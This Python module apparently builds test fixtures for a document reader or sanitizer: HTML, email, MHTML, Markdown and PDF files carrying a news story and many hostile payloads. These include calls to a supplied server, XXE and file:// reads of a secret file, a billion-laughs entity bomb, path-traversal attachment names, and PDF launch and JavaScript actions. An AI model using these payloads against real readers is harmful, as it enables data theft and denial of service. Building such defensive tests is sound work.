"""Files that call out: each names a server, a secret file and a program in all ways of its kind."""

from __future__ import annotations

import io
from email.message import EmailMessage
from pathlib import Path

from articles import MINISTER
from pypdf import PdfWriter
from pypdf.generic import (
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

STORY = "".join(f"<p>{part}</p>" for part in MINISTER.strip().split("\n\n"))


def files_that_call(server: str, secret: Path) -> dict[str, bytes]:
    """By name; what they show is the story, and at most the address of the server."""
    page, message = _page(server, secret), _message(server, secret)
    return {
        "page.html": f"<!DOCTYPE html>{page}".encode(),
        "dtd.xhtml": f"{_declaration(server, secret)}{page}".encode(),
        "laughs.html": f"{entities_of_entities()}{page}".encode(),
        "archive.mhtml": _archive(server, page),
        "mail.eml": message,
        "box.mbox": b"From a Tue May  3 10:00:00 2022\n" + message,
        "note.md": _note(server, secret).encode(),
        "text.txt": f"{MINISTER}\n{server}/text\n<img src={server}/text.png>\n".encode(),
        "print.pdf": _print(server, secret),
    }


def _page(server: str, secret: Path) -> str:
    return f"""<html manifest="{server}/manifest"><head><base href="{server}/">
<title>Minister sends drones to Ruritania</title>
<meta http-equiv=refresh content="0;url={server}/refresh">
<link rel=stylesheet href="{server}/style.css"><link rel=canonical href="{server}/canonical">
<link rel=preload href="{server}/preload" as=script><script src="{server}/script.js"></script>
<style>@import url({server}/import.css); body {{ background: url({server}/back.png) }}</style>
<script type="application/ld+json">{{"@context": "{server}/context", "@type": "NewsArticle",
"url": "{server}/linked", "image": "{server}/linked.png"}}</script></head>
<body onload="fetch('{server}/onload')" background="{server}/body.png">
<article><h1>Minister sends drones to Ruritania</h1><img src="{server}/pixel.gif" width=1 height=1>
{STORY}<iframe src="{server}/frame"></iframe><object data="{server}/object"></object>
<embed src="file://{secret}"><video src="{server}/video" poster="{server}/poster"></video>
<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}" parse="text"/>
<svg><use href="{server}/use.svg#a"/><image xlink:href="{server}/image"/></svg>
<form action="{server}/form"><input type=image src="{server}/input"></form>
<a href="{server}/link" ping="{server}/ping">More of it</a><a href="javascript:alert(1)">Here</a>
</article></body></html>"""


def _declaration(server: str, secret: Path) -> str:
    return f"""<?xml version="1.0"?><?xml-stylesheet href="{server}/style.xsl" type="text/xsl"?>
<!DOCTYPE html SYSTEM "{server}/page.dtd" [<!ENTITY secret SYSTEM "file://{secret}">
<!ENTITY % remote SYSTEM "{server}/remote.dtd"> %remote; ]>
<p>&secret;</p>"""


def entities_of_entities() -> str:
    """Entities of which each is ten of the one before: a billion words in a kilobyte."""
    inner = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE html [<!ENTITY e0 "laugh">{inner}]><p>&e9;</p>'


def _archive(server: str, page: str) -> bytes:
    return f"""From: <Saved by a browser>
Snapshot-Content-Location: {server}/archive
Subject: Minister sends drones to Ruritania
MIME-Version: 1.0
Content-Type: multipart/related; type="text/html"; boundary="B"

--B
Content-Type: text/html
Content-Location: {server}/page

{page}
--B
Content-Type: text/css
Content-Location: ../../../../style.css

@import url({server}/part.css);
--B
Content-Type: message/external-body; access-type=URL; URL="{server}/external"

--B--
""".encode()


def _message(server: str, secret: Path) -> bytes:
    mail = EmailMessage()
    mail["From"], mail["Subject"] = "Anna Novak <anna@example.org>", "Drones"
    mail["List-Unsubscribe"] = f"<{server}/unsubscribe>"
    mail["Disposition-Notification-To"] = "spy@example.org"
    mail.set_content(MINISTER)
    mail.add_alternative(_page(server, secret), subtype="html")
    mail.add_attachment(b"#!/bin/sh\n", "application", "x-sh", filename="../../../.bashrc")
    return mail.as_bytes().replace(
        b"Content-Type: application/x-sh",
        f'Content-Type: message/external-body; access-type=URL; URL="{server}/body"'.encode(),
    )


def _note(server: str, secret: Path) -> str:
    return f"""# Minister sends drones to Ruritania

![pixel]({server}/pixel.png) [more][1] <{server}/auto> <img src="{server}/raw.png">

{MINISTER.split(chr(10), 2)[2]}

{{% include "{secret}" %}} ![secret](file://{secret})

[1]: {server}/reference
"""


def _print(server: str, secret: Path) -> bytes:
    """Pages that open an address when they are shown, and run a program when they are left."""
    writer = PdfWriter()
    page, words = writer.add_blank_page(600, 800), DecodedStreamObject()
    shown = "".join(f"({line}) Tj 0 -14 Td\n" for line in MINISTER.splitlines())
    words.set_data(f"BT /F 10 Tf 50 750 Td\n{shown}ET".encode("cp1252"))
    page[NameObject("/Contents")] = words
    font = {"/Type": "/Font", "/Subtype": "/Type1", "/BaseFont": "/Helvetica"}
    named = DictionaryObject({NameObject(k): NameObject(v) for k, v in font.items()})
    fonts = DictionaryObject({NameObject("/F"): named})
    page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): fonts})
    names = DictionaryObject()
    for where, event, kind, key, target in (
        (writer.root_object, "/OpenAction", "/URI", "/URI", f"{server}/open"),
        (page, "/AA", "/Launch", "/F", str(secret)),
        (names, "/JavaScript", "/JavaScript", "/JS", f"app.launchURL('{server}/script')"),
    ):
        action = DictionaryObject({NameObject("/S"): NameObject(kind)})
        action[NameObject(key)] = TextStringObject(target)
        where[NameObject(event)] = action
    writer.root_object[NameObject("/Names")] = names
    writer.add_attachment("../../../evil.sh", b"#!/bin/sh\n")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
